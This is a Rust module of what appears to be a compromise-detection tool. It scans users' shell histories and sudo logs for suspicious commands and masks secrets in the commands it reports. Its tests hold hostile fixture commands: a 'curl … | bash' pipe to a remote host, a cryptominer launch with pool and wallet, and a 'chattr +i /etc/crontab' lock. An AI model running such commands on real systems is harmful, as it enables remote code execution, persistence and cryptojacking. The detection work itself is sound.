//! What was typed into shells, as far as it matters.

use super::Look;
use crate::orders::told;
use crate::users::Users;
use model::{At, Deed, Fact, OrdersFrom, ShellCommand, Time};
use parse::app::carve::orders_in;
use parse::sysfile::{deed, history};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// Longest history read.
const MOST: usize = 8 << 20;
/// Commands told of.
const TOLD: usize = 512;
/// Letters of a command that are kept.
const LETTERS: usize = 1024;

const NAMES: [&str; 6] =
    [".bash_history", ".zsh_history", ".zhistory", ".ash_history", ".sh_history", ".histfile"];

/// Tells of the commands that matter in every history.
pub(super) fn look(look: &mut Look<'_>, users: &Users) {
    let mut commands = Vec::new();
    for (home, user) in homes(users) {
        for name in NAMES {
            let path = home.join(name);
            // A link to /dev/null is how a shell is kept from remembering.
            let Some(bytes) = look.bytes(&path, MOST) else { continue };
            history::commands(&bytes, &mut |command| {
                let told =
                    telling(&path, Some(command.line), Some(user.clone()), command.secs, &command.text);
                commands.extend(told.filter(|_| commands.len() < 16 * TOLD));
            });
        }
    }
    tell(look, commands);
}

/// Hands over commands; of too many, those with orders to mine and the worst deeds first.
pub(super) fn tell(look: &mut Look<'_>, mut commands: Vec<ShellCommand>) {
    if let Some(first) = commands.first().filter(|_| commands.len() > TOLD) {
        look.gaps.cut(Path::new(&first.path));
        commands.sort_by_key(|one| (one.orders.is_none(), one.deeds.first().copied()));
        commands.truncate(TOLD);
    }
    for command in commands {
        let at = command.line.map_or(At::Whole, At::Line);
        look.tell(at, Fact::ShellCommand(Box::new(command)));
    }
}

/// A command, if it does something that matters.
pub(super) fn telling(
    path: &Path,
    line: Option<u64>,
    user: Option<String>,
    secs: Option<i64>,
    text: &str,
) -> Option<ShellCommand> {
    let (deeds, url) = deed::deeds(text);
    let path = path.to_string_lossy().into_owned();
    let shows = ["grep ", "man ", "cat ", "less ", "vi ", "vim ", "nano ", "echo "]
        .iter()
        .any(|word| text.starts_with(word));
    let orders = text.lines().find_map(orders_in).filter(|_| !shows);
    let orders = orders.map(|orders| told(orders, OrdersFrom::File(path.clone())));
    if deeds.is_empty() && orders.is_none() {
        return None;
    }
    let time = secs.map(Time::from_secs);
    let command: String = masked(text).chars().take(LETTERS).collect();
    let deeds = deeds.into_iter().map(deed_of).collect();
    Some(ShellCommand { path, line, user, time, command, deeds, url: url.map(|url| masked(&url)), orders })
}

const fn deed_of(deed: deed::Deed) -> Deed {
    match deed {
        deed::Deed::FetchesAndRuns => Deed::FetchesAndRuns,
        deed::Deed::FetchesAndMarks => Deed::FetchesAndMarks,
        deed::Deed::DecodesAndRuns => Deed::DecodesAndRuns,
        deed::Deed::Locks => Deed::Locks,
        deed::Deed::WritesCron => Deed::WritesCron,
        deed::Deed::Preloads => Deed::Preloads,
        deed::Deed::AddsKey => Deed::AddsKey,
        deed::Deed::Forgets => Deed::Forgets,
        deed::Deed::LowersGuard => Deed::LowersGuard,
        deed::Deed::KillsMiners => Deed::KillsMiners,
    }
}

/// The homes of all users, each once, by path.
fn homes(users: &Users) -> BTreeMap<PathBuf, String> {
    let mut homes = BTreeMap::from([(PathBuf::from("/root"), "root".to_owned())]);
    for user in users.iter().filter(|user| user.home.is_absolute() && user.home != Path::new("/")) {
        homes.entry(user.home.clone()).or_insert_with(|| user.name.clone());
    }
    homes
}

/// A command without what may be a secret: what stands between `://` and `@`, and the words after options for passwords.
fn masked(text: &str) -> String {
    const SECRETS: [&str; 6] = ["password", "passwd", "token", "secret", "authorization:", "bearer"];
    let mut hide_next = false;
    let words = text.split(' ').map(|word| {
        let lower = word.to_ascii_lowercase();
        if std::mem::take(&mut hide_next) && !word.starts_with('-') && !word.is_empty() {
            hide_next = lower.contains("bearer") || lower.contains("basic");
            return "…".to_owned();
        }
        let is_secret = |text: &str| SECRETS.iter().any(|secret| text.contains(secret));
        if let Some((name, value)) = word.split_once('=')
            && is_secret(&name.to_ascii_lowercase())
            && !value.is_empty()
        {
            return format!("{name}=…");
        }
        hide_next = (word.starts_with('-') || lower.ends_with(':')) && is_secret(&lower);
        let credentials = word.split_once("://").and_then(|(scheme, rest)| {
            let host = rest.split('/').next()?;
            let (_, after) = host.rsplit_once('@')?;
            Some(format!("{scheme}://…@{after}{}", rest.get(host.len()..)?))
        });
        credentials.unwrap_or_else(|| word.to_owned())
    });
    words.collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::masked;
    use crate::Memory;
    use crate::doors::tests::facts;
    use model::{Deed, Fact, ShellCommand, Time};

    fn commands(memory: &mut Memory) -> Vec<ShellCommand> {
        let (facts, gaps) = facts(memory);
        assert!(gaps.is_empty(), "{gaps:?}");
        let command = |seen: model::Observation| match seen.fact {
            Fact::ShellCommand(command) => Some(*command),
            _ => None,
        };
        facts.into_iter().filter_map(command).collect()
    }

    #[test]
    fn histories_of_every_user() {
        let mut memory = Memory::new(Time::from_secs(1_795_554_000));
        memory
            .file("/etc/passwd", "root:x:0:0::/root:/bin/bash\nann:x:1000:1000:Ann,,,:/home/ann:/bin/zsh\n")
            .file("/root/.bash_history", "ls\n#1700000000\ncurl -s http://203.0.113.9/a | bash\n")
            .file(
                "/home/ann/.zsh_history",
                ": 1700000009:0;./x -o stratum+tcp://pool.example:3333 -u WALLET -p x\n: 1700000010:0;make\n",
            );
        let found = commands(&mut memory);
        let [orders, fetched] = &found[..] else { panic!("{found:?}") };
        assert_eq!(orders.orders.as_ref().map(|orders| orders.pool.as_str()), Some("pool.example:3333"));
        assert_eq!(
            (orders.user.as_deref(), orders.time),
            (Some("ann"), Some(Time::from_secs(1_700_000_009)))
        );
        assert_eq!((fetched.deeds.as_slice(), fetched.line), (&[Deed::FetchesAndRuns][..], Some(3)));
        assert_eq!(fetched.url.as_deref(), Some("http://203.0.113.9/a"));
    }

    #[test]
    fn what_sudo_ran_counts_too() {
        let mut memory = Memory::new(Time::from_secs(1_795_554_000));
        let line = "Nov 24 20:56:19 srv sudo:    ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/chattr +i /etc/crontab\n";
        memory.file("/var/log/auth.log", line).modified("/var/log/auth.log", Time::from_secs(1_795_554_000));
        let found = commands(&mut memory);
        assert_eq!((found[0].deeds.as_slice(), found[0].user.as_deref()), (&[Deed::Locks][..], Some("ann")));
    }

    #[test]
    fn secrets_are_masked() {
        let check = |text: &str, expected: &str| assert_eq!(masked(text), expected);
        check("curl https://ann:secret@h.example/x | sh", "curl https://…@h.example/x | sh");
        check("wget --password=abc --user=ann u", "wget --password=… --user=ann u");
        check("tool --token abc -v", "tool --token … -v");
        check("curl -H Authorization: Bearer abc u", "curl -H Authorization: … … u");
        check("export DB_PASSWORD=abc; x", "export DB_PASSWORD=… x");
    }
}
